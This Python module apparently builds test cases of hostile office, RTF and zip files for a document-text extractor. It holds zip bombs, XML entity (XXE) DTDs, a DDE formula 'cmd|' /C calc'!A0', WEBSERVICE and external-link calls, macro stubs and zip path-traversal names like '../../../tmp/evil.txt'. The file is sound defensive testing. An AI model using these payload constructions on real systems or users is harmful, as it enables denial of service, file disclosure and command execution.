"""Hostile sheets, slides, OpenDocument and RTF files."""

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import honest
import office
import openpyxl
from hostile_archives import bomb, flagged
from hostile_case import SECRET, SEEN, XML, Case, entities
from openpyxl.comments import Comment

SHEET = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SLIDE = "ppt/slides/slide1.xml"


def sheet(rows: str, before: str = "") -> bytes:
    """A workbook with this XML for the rows of its sheet."""
    xml = f"{XML}<worksheet {MAIN}>{before}<sheetData>{rows}</sheetData></worksheet>"
    return honest.edited(office.sheets(Bridge=[[SEEN]]), {SHEET: lambda _: xml}, {})


def inline(reference: str, words: str = SEEN) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{words}</t></is></c>'


def related(name: str, kind: str, target: str, content: bytes, external: str = "") -> bytes:
    """The same file with one more relation of the part whose relations are ``name``."""
    one = f'<Relationship Id="rIdX" Type="{RELATION}/{kind}" Target="{target}"{external}/></Relationships>'
    return honest.edited(content, {name: lambda xml: xml.replace("</Relationships>", one)}, {})


def hidden_sheets() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append([SEEN])
    workbook.active["A1"].comment = Comment(SECRET, SECRET)
    for state in ("hidden", "veryHidden"):
        gone = workbook.create_sheet(state)
        gone.append([SECRET])
        gone.sheet_state = state
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def sheets(canary: Path, address: str) -> Iterator[Case]:
    good = office.sheets(Bridge=[["Year", "Words"], [1803, SEEN]])
    yield Case("sheet/bomb.xlsx", bomb(), reason="unpacks to")
    yield Case("sheet/entries.xlsx", honest.edited(good, {}, {f"x/{n}": b"" for n in range(10_001)}), reason="parts")
    yield Case("sheet/password-flag.xlsx", flagged(good), reason="password")
    yield Case(
        "sheet/far-cell.xlsx",
        sheet(f'<row r="1">{inline("A1")}</row><row r="300000">{inline("XFD300000")}</row>'),
        wanted=SEEN,
    )
    yield Case(
        "sheet/dimension.xlsx",
        sheet(
            "".join(f'<row r="{n}">{inline(f"A{n}")}</row>' for n in range(1, 500)), '<dimension ref="A1:XFD1048576"/>'
        ),
        wanted=SEEN,
    )
    yield Case(
        "sheet/bad-references.xlsx", sheet(f'<row r="-5">{inline("A0")}</row><row r="x">{inline("ZZZZZZ9")}</row>')
    )
    yield Case(
        "sheet/no-references.xlsx", sheet(f"<row><c t='inlineStr'><is><t>{SEEN}</t></is></c></row>"), wanted=SEEN
    )
    yield Case("sheet/string-index.xlsx", sheet(f'<row r="1">{inline("A1")}<c r="B1" t="s"><v>99999999</v></c></row>'))
    yield Case(
        "sheet/number.xlsx",
        sheet(f'<row r="1">{inline("A1")}<c r="B1"><v>{"9" * 5000}</v></c><c r="C1"><v>1e999</v></c></row>'),
    )
    yield Case("sheet/deep.xlsx", sheet("<row>" * 100_000))
    yield Case("sheet/shared-strings.xlsx", _repeated_string(), reason="longer than 32,000,000")
    dtd = entities(canary).replace("html", "worksheet")
    yield Case(
        "sheet/entities.xlsx",
        honest.edited(good, {SHEET: lambda x: x.replace("<worksheet", f"{dtd}<worksheet", 1)}, {}),
    )
    yield Case(
        "sheet/entity-text.xlsx",
        honest.edited(good, {SHEET: lambda _: f"{dtd}<worksheet {MAIN}><sheetData><row r='1'>{inline('A1', SEEN + '&file;')}</row></sheetData></worksheet>"}, {}),  # noqa: E501
    )  # fmt: skip
    formulas = (
        f'WEBSERVICE("{address}/formula")',
        f'HYPERLINK("{canary.as_uri()}",A1)',
        "cmd|' /C calc'!A0",
        f"'{address}/[a.xlsx]S'!A1",
    )
    cells = "".join(
        f'<c r="B{n}"><f>{f.replace(chr(34), "&quot;")}</f><v>{n}</v></c>' for n, f in enumerate(formulas, 1)
    )
    yield Case("sheet/formulas.xlsx", sheet(f'<row r="1">{inline("A1")}{cells}</row>'), wanted=SEEN)
    for kind, target in (("externalLink", address), ("oleObject", canary.as_uri()), ("attachedTemplate", address)):
        content = related("xl/_rels/workbook.xml.rels", kind, f"{target}/x", good, ' TargetMode="External"')
        yield Case(f"sheet/{kind}.xlsx", content, wanted=SEEN)
    yield Case(
        "sheet/macros.xlsx", honest.edited(good, {}, {"xl/vbaProject.bin": f"Sub AutoOpen {SECRET}"}), wanted=SEEN
    )
    yield Case("sheet/hidden.xlsx", hidden_sheets(), wanted=SEEN)
    yield Case(
        "sheet/no-sheets.xlsx",
        honest.edited(good, {"xl/workbook.xml": lambda _: f"<workbook {MAIN}/>"}, {}),
        reason=".",
    )


def _repeated_string() -> bytes:
    """A word of a megabyte in every cell: two gigabytes of text in a file of kilobytes."""
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 2001))
    words = f"{XML}<sst {MAIN}><si><t>{'word. ' * 170_000}</t></si></sst>"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}"/></Types>'
    types = {"[Content_Types].xml": lambda xml: xml.replace("</Types>", part)}
    return honest.edited(sheet(cells), types, {"xl/sharedStrings.xml": words})


def slides(canary: Path, address: str) -> Iterator[Case]:
    good = office.slides(("Bridge", SEEN), ("Gone", SECRET), notes="A note.")
    hidden = honest.edited(good, {"ppt/slides/slide2.xml": lambda x: x.replace("<p:sld ", '<p:sld show="0" ', 1)}, {})
    one = office.slides(("Bridge", SEEN))
    yield Case("slides/bomb.pptx", bomb(), reason="unpacks to")
    yield Case("slides/hidden.pptx", hidden, wanted=SEEN)
    group = "<p:grpSp><p:nvGrpSpPr><p:cNvPr id='9' name='g'/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>"
    deep = honest.edited(
        one, {SLIDE: lambda x: x.replace("</p:spTree>", group * 3000 + "</p:grpSp>" * 3000 + "</p:spTree>")}, {}
    )
    yield Case("slides/deep-groups.pptx", deep)
    dtd = entities(canary).replace("html", "p:sld")
    yield Case(
        "slides/entities.pptx",
        honest.edited(one, {SLIDE: lambda x: x.replace("?>", f"?>{dtd}", 1).replace("the bridge", "&l9;&file;")}, {}),
    )
    for kind, target in (("image", f"{address}/p.png"), ("oleObject", canary.as_uri()), ("video", f"{address}/v")):
        content = related("ppt/slides/_rels/slide1.xml.rels", kind, target, one, ' TargetMode="External"')
        yield Case(f"slides/{kind}.pptx", content, wanted=SEEN)
    yield Case(
        "slides/notes-external.pptx",
        related("ppt/slides/_rels/slide1.xml.rels", "notesSlide", address, one, ' TargetMode="External"'),
    )
    yield Case("slides/macros.pptx", honest.edited(one, {}, {"ppt/vbaProject.bin": SECRET}), wanted=SEEN)
    yield Case("slides/no-slide.pptx", honest.edited(one, {SLIDE: lambda _: ""}, {}), reason="damaged")
    shape = '<p:sp><p:nvSpPr><p:cNvPr id="7" name="a"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
    yield Case(
        "slides/shapes.pptx",
        honest.edited(one, {SLIDE: lambda x: x.replace("</p:spTree>", shape * 1000 + "</p:spTree>")}, {}),
    )
    yield Case(
        "slides/pictures.pptx",
        honest.edited(office.slides(("", "")), {}, {"ppt/media/a.png": bytes(range(256)) * 400}),
        reason="OCR",
    )


def open_documents(canary: Path, address: str) -> Iterator[Case]:
    seen = office.paragraph(SEEN)
    cell = f'<table:table-cell table:number-columns-repeated="16384">{office.paragraph("word.")}</table:table-cell>'
    rows = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>' * 200
    yield Case(
        "open/repeated.ods", office.open_document(f'<table:table table:name="a">{rows}</table:table>', "spreadsheet")
    )
    number = (
        '<table:table-cell table:number-columns-repeated="-9"/><table:table-cell table:number-columns-repeated="²"/>'
    )
    yield Case(
        "open/bad-repeated.ods",
        office.open_document(
            f"<table:table><table:table-row>{number}<table:table-cell>{seen}</table:table-cell></table:table-row></table:table>",
            "spreadsheet",
        ),
        wanted=SEEN,
    )
    yield Case(
        "open/spaces.odt",
        office.open_document(f'{seen}<text:p>a<text:s text:c="999999999999"/>b</text:p>'),
        wanted=SEEN,
    )
    yield Case("open/bomb.odt", bomb(), reason="unpacks to")
    yield Case("open/deep.odt", office.open_document(seen + "<text:section>" * 50_000))
    yield Case(
        "open/deep-span.odt",
        office.open_document(f"{seen}<text:p>{'<text:span>' * 200}a{'</text:span>' * 200}</text:p>"),
    )
    content = f"{entities(canary).replace('html', 'office:document-content')}"
    with_dtd = honest.edited(
        office.open_document(f"{seen}<text:p>&l9;&file;</text:p>"), {"content.xml": lambda x: content + x}, {}
    )
    yield Case("open/entities.odt", with_dtd)
    link = f'<draw:frame><draw:image xlink:href="{address}/p.png" xmlns:xlink="http://www.w3.org/1999/xlink"/></draw:frame>'
    source = f'<text:section><text:section-source xlink:href="{canary.as_uri()}" xmlns:xlink="http://www.w3.org/1999/xlink"/></text:section>'
    yield Case("open/external.odt", office.open_document(seen + link + source), wanted=SEEN)
    formula = f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{address}&quot;)">{seen}</table:table-cell>'
    row = f"<table:table><table:table-row>{formula}</table:table-row></table:table>"
    yield Case("open/formula.ods", office.open_document(row, "spreadsheet"), wanted=SEEN)
    yield Case(
        "open/deleted.odt",
        office.open_document(
            f"{seen}<text:tracked-changes><text:p>{SECRET}</text:p></text:tracked-changes><office:annotation><text:p>{SECRET}</text:p></office:annotation>"
        ),
        wanted=SEEN,
    )
    yield Case(
        "open/script.odt",
        office.open_document(
            f"<office:scripts><office:script><text:p>{SECRET}</text:p></office:script></office:scripts>{seen}"
        ),
        wanted=SEEN,
    )
    yield Case(
        "open/macros.odt",
        honest.edited(office.open_document(seen), {}, {"Basic/Standard/Module1.xml": SECRET}),
        wanted=SEEN,
    )
    yield Case(
        "open/no-content.odt", honest.zipped({"mimetype": "", "META-INF/manifest.xml": "<manifest/>"}), reason="missing"
    )
    yield Case(
        "open/password.ods",
        honest.edited(
            office.open_document(seen), {"META-INF/manifest.xml": lambda _: "<manifest:encryption-data/>"}, {}
        ),
        reason="password",
    )
    shown = f'<draw:page draw:style-name="gone">{office.paragraph(SECRET)}</draw:page><draw:page>{seen}</draw:page>'
    styles = '<office:automatic-styles><style:style style:name="gone" style:family="drawing-page" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"><style:drawing-page-properties presentation:visibility="hidden" xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"/></style:style></office:automatic-styles>'  # noqa: E501
    yield Case(
        "open/hidden-slide.odp",
        honest.edited(
            office.open_document(shown, "presentation"),
            {"content.xml": lambda x: x.replace("<office:body>", styles + "<office:body>")},
            {},
        ),
        wanted=SEEN,
    )


def rich_texts(canary: Path, address: str) -> Iterator[Case]:
    def rtf(inside: str) -> bytes:
        return f"{{\\rtf1\\ansi {SEEN}\\par {inside}}}".encode("ascii", "replace")

    yield Case("rich/deep.rtf", rtf("{" * 200_000 + "words"))
    yield Case("rich/closed.rtf", b"{\\rtf1 " + b"}" * 200_000)
    yield Case("rich/controls.rtf", rtf("\\b" * 300_000), wanted=SEEN)
    yield Case("rich/binary.rtf", rtf("\\bin99999999999 words"))
    yield Case("rich/unicode.rtf", rtf("\\u-1? \\u99999999? \\uc99999 \\u65? words"))
    yield Case("rich/surrogate.rtf", rtf("\\u-10179? words"))
    yield Case("rich/code-page.rtf", rtf("\\ansicpg99999 \\'ff words"))
    yield Case(
        "rich/field.rtf",
        rtf(f'{{\\field{{\\*\\fldinst INCLUDETEXT "{canary.as_uri()}" {SECRET}}}{{\\fldrslt shown}}}}'),
        wanted=SEEN,
    )
    yield Case(
        "rich/object.rtf",
        rtf(f"{{\\object\\objautlink\\objupdate{{\\*\\objclass {SECRET}}}{{\\*\\objdata {SECRET.encode().hex()}}}}}"),
        wanted=SEEN,
    )
    yield Case("rich/template.rtf", rtf(f"{{\\*\\template {address}/{SECRET}.dot}}"), wanted=SEEN)
    yield Case("rich/hidden.rtf", rtf(f"{{\\v {SECRET}}} and more"), wanted=SEEN)
    yield Case("rich/picture.rtf", rtf("{\\pict\\wmetafile8 " + "00" * 500_000 + "}"), wanted=SEEN)
    yield Case("rich/cells.rtf", rtf("a|" * 100_000 + "\\par "))


def packed() -> Iterator[Case]:
    """Zip files of articles."""
    seen = {"a.txt": SEEN}
    inner = honest.zipped({"a.txt": SECRET})
    for _ in range(10):
        inner = honest.zipped({"a.zip": inner, "b.txt": SEEN})
    yield Case("packed/zip-in-zip.zip", inner, wanted=SEEN)
    yield Case("packed/only-zips.zip", honest.zipped({"a.zip": honest.zipped(seen)}), reason="no words")
    yield Case("packed/bomb.zip", bomb(), reason="unpacks to")
    yield Case(
        "packed/part-bomb.zip",
        honest.zipped({"a.txt": b"a " * (33 * 2**20), "b.txt": SEEN}),
        wanted=SEEN,
        reason="unpacks to",
    )
    yield Case(
        "packed/paths.zip",
        honest.zipped(
            {"../../../tmp/evil.txt": SEEN, "/etc/evil.txt": SEEN, "a\\..\\..\\b.txt": SEEN, "a\0b.txt": SEEN}
        ),
        wanted=SEEN,
    )
    yield Case(
        "packed/many.zip", honest.zipped({f"{n}.txt": "words" for n in range(1001)}), reason="packs 1001 articles"
    )
    yield Case("packed/password.zip", flagged(honest.zipped(seen)), reason="password")
    yield Case(
        "packed/bombs.zip",
        honest.zipped({"a.txt": SEEN, "b.docx": bomb(), "c.xlsx": bomb()}),
        wanted=SEEN,
        reason="unpacks to",
    )
    yield Case(
        "packed/hidden.zip",
        honest.zipped({"a.txt": SEEN, ".b.txt": SECRET, "__MACOSX/c.txt": SECRET, ".git/d.txt": SECRET}),
        wanted=SEEN,
    )
    yield Case("packed/same.zip", _same_names(), wanted=SEEN)
    yield Case("packed/overlap.zip", _overlapping())


def _same_names() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(3):
            archive.writestr(zipfile.ZipInfo(f"a{'?' * number}.txt"), SEEN)
    return out.getvalue()


def _overlapping() -> bytes:
    """Two hundred names for the same megabyte of zeros: what they unpack to is within the limits, taken one by one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", "word. " * 170_000)
        first = archive.filelist[0]
        for number in range(1, 200):
            again = zipfile.ZipInfo(f"{number}.txt")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(again, name, getattr(first, name))
            archive.filelist.append(again)
            archive.NameToInfo[again.filename] = again
    return out.getvalue()
